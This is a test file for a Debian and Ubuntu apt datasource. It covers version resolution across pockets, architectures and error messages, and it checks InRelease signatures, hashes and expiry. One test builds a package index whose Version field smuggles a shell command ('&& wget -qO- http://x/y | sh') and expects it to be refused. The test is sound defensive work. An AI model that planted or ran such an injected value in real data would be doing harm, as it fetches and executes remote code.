import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import nock from 'nock';
import { archiveKey, makeArchiveTestKey, packagesGzFixture, serveDebianBookworm, servePocket, serveUbuntuNoble, testKeyrings } from '../../../../test/support/package-indexes.js';
import type { DependencyRef } from '../../reference.js';
import { debianDatasource, type DebianDatasourceOptions } from './index.js';
import { useNock } from '../../../../test/support/nock.js';

const DEBIAN = 'https://deb.mirror.test/debian';
const SECURITY = 'https://security.mirror.test/debian-security';
const UBUNTU = 'http://ubuntu.mirror.test/ubuntu';
const [DEBIAN_HOST, SECURITY_HOST, UBUNTU_HOST] = [DEBIAN, SECURITY, UBUNTU].map((url) => new URL(url).origin) as [string, string, string];
let options: DebianDatasourceOptions;
beforeAll(async () => {
  options = { debian: { mirror: DEBIAN, securityMirror: SECURITY }, ubuntu: { mirror: UBUNTU }, sleep: async () => undefined, keyrings: await testKeyrings() };
});

function aptRef(name: string, value: string | null, context: Record<string, string> = { distro: 'debian', suite: 'bookworm' }): DependencyRef {
  return { file: 'Dockerfile', line: 3, manager: 'apt', datasource: 'debian', name, value, digest: null, pinned: value !== null, skipped: null, context: { ...context, list: '0', slot: '0' } };
}

const serveBookworm = () => serveDebianBookworm(DEBIAN, SECURITY);
const AMD64 = 'main/binary-amd64/Packages.gz';

useNock();

describe('debian datasource', () => {
  test('the highest version of the release, -updates and -security wins, by dpkg ordering', async () => {
    await serveBookworm();
    const debian = debianDatasource(options);
    const names = ['curl', 'ca-certificates', 'openssl', 'git', 'tzdata', 'python3'];
    const versions = await Promise.all(names.map(async (name) => {
      const result = await debian.resolve(aptRef(name, null));
      return result.ok ? result.pin.version : result.message;
    }));
    expect(Object.fromEntries(names.map((name, i) => [name, versions[i]]))).toEqual({
      // The release has a newer point-release build than the last security upload.
      curl: '7.88.1-10+deb12u15',
      // Security fixes newer than the release win.
      'ca-certificates': '20250419~deb12u2',
      openssl: '3.0.22-1~deb12u2',
      // The epoch counts.
      git: '1:2.39.5-0+deb12u3',
      tzdata: '2026f-0+deb12u1',
      python3: '3.11.2-1+b1',
    });
  });

  test('a pinned version no pocket carries any more is re-pinned with a note; an older one still there is refreshed silently', async () => {
    await serveBookworm();
    const debian = debianDatasource(options);
    await expect(debian.resolve(aptRef('curl', '7.88.1-10+deb12u8'))).resolves.toEqual({
      ok: true,
      pin: { version: '7.88.1-10+deb12u15', note: 'curl=7.88.1-10+deb12u8 is no longer in bookworm, bookworm-updates or bookworm-security; re-pinned to 7.88.1-10+deb12u15' },
    });
    await expect(debian.resolve(aptRef('openssl', '3.0.20-1~deb12u2'))).resolves.toEqual({ ok: true, pin: { version: '3.0.22-1~deb12u2' } });
  });

  test('a package in no pocket is a failure naming the suite, the architecture and what was searched', async () => {
    await serveBookworm();
    await expect(debianDatasource(options).resolve(aptRef('no-such-package', null))).resolves.toEqual({
      ok: false,
      message: 'package "no-such-package" is not in Debian bookworm for amd64 (searched bookworm/main, bookworm-updates/main, bookworm-security/main)',
    });
  });

  test('a foreign architecture reads that architecture\'s index; Architecture: all packages count for every architecture', async () => {
    const i386 = 'main/binary-i386/Packages.gz';
    await servePocket(nock(DEBIAN_HOST), '/debian', 'bookworm', { [AMD64]: packagesGzFixture('debian-bookworm-main-amd64'), [i386]: packagesGzFixture('debian-bookworm-main-i386') }, [i386]);
    // -updates and -security carry no i386 index: nothing to read there.
    await servePocket(nock(DEBIAN_HOST), '/debian', 'bookworm-updates', { [AMD64]: gzipSync('') }, []);
    await servePocket(nock(SECURITY_HOST), '/debian-security', 'bookworm-security', { [AMD64]: gzipSync('') }, []);
    const debian = debianDatasource(options);
    const context = { distro: 'debian', suite: 'bookworm', arch: 'i386' };
    await expect(debian.resolve(aptRef('libc6', null, context))).resolves.toEqual({ ok: true, pin: { version: '2.36-9+deb12u14' } });
    await expect(debian.resolve(aptRef('ca-certificates', null, context))).resolves.toEqual({ ok: true, pin: { version: '20230311+deb12u1' } });
    expect(debian.lookupKey(aptRef('libc6', null, context))).toBe('debian/bookworm/i386/libc6=');
  });

  test('a release the mirror does not carry is an error; missing -updates and -security pockets are not', async () => {
    await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packagesGzFixture('debian-bookworm-main-amd64') });
    nock(DEBIAN_HOST).get('/debian/dists/sid-updates/InRelease').reply(404).get('/debian/dists/nosuch/InRelease').reply(404).get('/debian/dists/nosuch-updates/InRelease').reply(404);
    nock(SECURITY_HOST).get('/debian-security/dists/sid-security/InRelease').reply(404).get('/debian-security/dists/nosuch-security/InRelease').reply(404);
    const debian = debianDatasource(options);
    await expect(debian.resolve(aptRef('jq', null, { distro: 'debian', suite: 'sid' }))).resolves.toEqual({ ok: true, pin: { version: '1.6-2.1+deb12u2' } });
    await expect(debian.resolve(aptRef('jq', null, { distro: 'debian', suite: 'nosuch' }))).resolves.toEqual({
      ok: false,
      message: `${DEBIAN}/dists/nosuch/InRelease answered 404 Not Found (is nosuch a release this mirror carries?)`,
    });
  });

  test('a security pocket that cannot be read fails the lookup rather than pin a version it may supersede', async () => {
    await servePocket(nock(DEBIAN_HOST), '/debian', 'bookworm', { [AMD64]: packagesGzFixture('debian-bookworm-main-amd64') });
    await servePocket(nock(DEBIAN_HOST), '/debian', 'bookworm-updates', { [AMD64]: packagesGzFixture('debian-bookworm-updates-main-amd64') });
    nock(SECURITY_HOST).get('/debian-security/dists/bookworm-security/InRelease').times(4).reply(502);
    await expect(debianDatasource(options).resolve(aptRef('curl', null))).resolves.toEqual({
      ok: false,
      message: `${SECURITY}/dists/bookworm-security/InRelease answered 502 Bad Gateway after 4 attempts`,
    });
  });

  test('Ubuntu reads the release, -updates and -security from one mirror, and universe only for what main lacks', async () => {
    await serveUbuntuNoble(UBUNTU, { noble: packagesGzFixture('ubuntu-noble-universe-amd64'), 'noble-updates': gzipSync(''), 'noble-security': gzipSync('') });
    const ubuntu = debianDatasource(options);
    const context = { distro: 'ubuntu', suite: 'noble' };
    await expect(ubuntu.resolve(aptRef('curl', null, context))).resolves.toEqual({ ok: true, pin: { version: '8.5.0-2ubuntu10.16' } });
    await expect(ubuntu.resolve(aptRef('ca-certificates', '20240203', context))).resolves.toEqual({ ok: true, pin: { version: '20260816ubuntu0.24.04.2' } });
    await expect(ubuntu.resolve(aptRef('ripgrep', null, context))).resolves.toEqual({ ok: true, pin: { version: '14.1.0-1' } });
  });

  test('Ubuntu architectures other than amd64 and i386 come from ports unless a mirror is configured', async () => {
    const ports = nock('http://ports.ubuntu.com');
    for (const pocket of ['jammy', 'jammy-updates', 'jammy-security']) {
      await servePocket(ports, '/ubuntu-ports', pocket, { 'main/binary-arm64/Packages.gz': gzipSync(''), 'universe/binary-arm64/Packages.gz': gzipSync('') });
    }
    const result = await debianDatasource({ ubuntu: { arch: 'arm64' }, keyrings: await testKeyrings() }).resolve(aptRef('curl', null, { distro: 'ubuntu', suite: 'jammy' }));
    expect(result).toMatchObject({ ok: false, message: expect.stringContaining('is not in Ubuntu jammy for arm64') });
  });

  describe('InRelease signatures and hashes: a failure is an error, never a pin', () => {
    const suiteRef = aptRef('curl', null, { distro: 'debian', suite: 'sid' });
    const packages = packagesGzFixture('debian-bookworm-main-amd64');
    const absentPockets = () => {
      nock(DEBIAN_HOST).get('/debian/dists/sid-updates/InRelease').reply(404);
      nock(SECURITY_HOST).get('/debian-security/dists/sid-security/InRelease').reply(404);
    };
    const refused = async (message: unknown) => {
      absentPockets();
      await expect(debianDatasource(options).resolve(suiteRef)).resolves.toEqual({ ok: false, message });
    };
    const IN_RELEASE = `${DEBIAN}/dists/sid/InRelease`;

    test('an InRelease signed by a key outside the keyring is refused', async () => {
      const stranger = await makeArchiveTestKey();
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packages }, [], { key: stranger });
      await refused(`${IN_RELEASE} is not signed by a key of the trusted keyring (signature missing, invalid, or by an unknown key)`);
    });

    test('an InRelease whose signed text was changed after signing is refused', async () => {
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packages }, [], { tamper: (signed) => signed.replace('Origin: repro-pins test archive', 'Origin: mallory') });
      await refused(`${IN_RELEASE} is not signed by a key of the trusted keyring (signature missing, invalid, or by an unknown key)`);
    });

    test('an unsigned Release text served as InRelease is refused', async () => {
      nock(DEBIAN_HOST).get('/debian/dists/sid/InRelease').reply(200, `Suite: sid\nSHA256:\n ${'0'.repeat(64)} 20 main/binary-amd64/Packages.gz\n`);
      await refused(expect.stringContaining(`${IN_RELEASE} is not a clearsigned OpenPGP message`));
    });

    test('a Packages file whose hash or size differs from the signed listing is refused', async () => {
      const other = gzipSync('Package: curl\nVersion: 6.6.6\nArchitecture: amd64\n');
      const scope = nock(DEBIAN_HOST);
      await servePocket(scope, '/debian', 'sid', { [AMD64]: packages }, []);
      scope.get(`/debian/dists/sid/${AMD64}`).reply(200, other);
      await refused(`${DEBIAN}/dists/sid/${AMD64} is ${other.length} bytes, but ${IN_RELEASE} lists ${packages.length}: not the signed index`);
      const sameSize = Buffer.from(packages);
      sameSize.writeUInt8(sameSize.readUInt8(0) ^ 1, 0);
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packages }, []);
      nock(DEBIAN_HOST).get(`/debian/dists/sid/${AMD64}`).reply(200, sameSize);
      await refused(expect.stringMatching(/Packages\.gz has SHA256 [0-9a-f]{64}, but .* lists [0-9a-f]{64}: not the signed index$/));
    });

    test('a validly signed InRelease of another suite, or past its Valid-Until, is refused', async () => {
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packages }, [], { suite: 'bookworm', codename: 'bookworm' });
      await refused(`${IN_RELEASE} is signed for "bookworm", not sid`);
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: packages }, [], { validUntil: new Date(Date.UTC(2024, 5, 8)) });
      await refused(`${IN_RELEASE} expired on 2024-06-08T00:00:00.000Z (Valid-Until): the mirror serves a stale or replayed file`);
    });

    test('an index version outside Debian\'s version grammar is an error naming the index and the package', async () => {
      const hostile = gzipSync('Package: curl\nVersion: 7.88.1-10 && wget -qO- http://x/y | sh && true\nArchitecture: amd64\n');
      await servePocket(nock(DEBIAN_HOST), '/debian', 'sid', { [AMD64]: hostile });
      await refused(`${DEBIAN}/dists/sid/${AMD64} gives package "curl" the version "7.88.1-10 && wget -qO- http://x/y | sh && true", which is not a Debian version ([epoch:]upstream[-revision], policy §5.6.12); not pinned`);
    });

    test('Ubuntu without a configured keyring is an error: repro-pins ships no Ubuntu key', async () => {
      await servePocket(nock(UBUNTU_HOST), '/ubuntu', 'noble', { [AMD64]: packages }, []);
      await servePocket(nock(UBUNTU_HOST), '/ubuntu', 'noble-updates', { [AMD64]: packages }, []);
      await servePocket(nock(UBUNTU_HOST), '/ubuntu', 'noble-security', { [AMD64]: packages }, []);
      await expect(debianDatasource({ ubuntu: { mirror: UBUNTU } }).resolve(aptRef('curl', null, { distro: 'ubuntu', suite: 'noble' }))).resolves.toEqual({
        ok: false,
        message: 'no Ubuntu keyring is configured to check InRelease signatures with: set REPRO_PINS_UBUNTU_KEYRING to Ubuntu\'s ubuntu-archive-keyring.gpg',
      });
    });

    test('Debian\'s real InRelease verifies with the shipped Debian keyring, and fails with the test key', async () => {
      const real = readFileSync(new URL('../../../../fixtures/apt/debian-bookworm-security.InRelease', import.meta.url), 'utf8');
      const { verifyInRelease, loadKeyring } = await import('./inrelease.js');
      const { bundledKeysPath } = await import('../../package-files.js');
      const shipped = await loadKeyring(bundledKeysPath('debian', 'debian-archive-keyring.gpg'));
      if (!shipped.ok) throw new Error(shipped.message);
      const read = await verifyInRelease(real, shipped.keys);
      expect(read.ok && { codename: read.release.codename, hasIndex: read.release.files.has(AMD64.replace('.gz', '.xz')) }).toEqual({ codename: 'bookworm-security', hasIndex: true });
      const test = await loadKeyring((await archiveKey()).keyringPath);
      expect(test.ok && (await verifyInRelease(real, test.keys)).ok).toBe(false);
    });
  });
});
